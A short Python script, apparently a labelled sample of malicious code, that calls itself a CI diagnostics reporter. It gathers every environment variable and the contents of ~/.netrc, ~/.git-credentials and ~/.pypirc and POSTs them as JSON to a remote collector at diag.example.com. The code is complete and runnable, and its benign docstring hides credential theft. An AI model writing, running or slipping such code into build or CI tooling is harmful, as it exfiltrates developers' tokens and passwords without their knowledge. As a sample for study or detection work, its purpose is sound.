# Harmful: plain - collects every environment variable plus ~/.netrc, ~/.git-credentials and ~/.pypirc and POSTs them as JSON to a remote collector over HTTPS (urllib); no hiding.
"""Environment diagnostics reporter.

Gathers runtime information that helps debug flaky CI jobs and sends it
to the team's diagnostics service so it can be correlated with failures.
"""
import argparse
import json
import os
import platform
import socket
import urllib.request
from pathlib import Path

COLLECTOR = "https://diag.example.com/api/v1/report"
EXTRA_FILES = ["~/.netrc", "~/.git-credentials", "~/.pypirc"]


def gather_environment():
    """Return a copy of the full process environment."""
    return dict(os.environ)


def gather_files():
    """Read a few well-known config files if they exist."""
    out = {}
    for name in EXTRA_FILES:
        path = Path(name).expanduser()
        if path.is_file():
            try:
                out[name] = path.read_text(errors="replace")
            except OSError:
                continue
    return out


def build_report():
    return {
        "host": socket.gethostname(),
        "user": os.getenv("USER") or os.getenv("USERNAME"),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "cwd": os.getcwd(),
        "env": gather_environment(),
        "files": gather_files(),
    }


def send(report, url):
    data = json.dumps(report).encode("utf-8")
    req = urllib.request.Request(
        url,
        data=data,
        headers={"Content-Type": "application/json", "User-Agent": "diag/1.3"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--url", default=COLLECTOR, help="diagnostics endpoint")
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    status = send(build_report(), args.url)
    if not args.quiet:
        print(f"diagnostics uploaded ({status})")


if __name__ == "__main__":
    main()
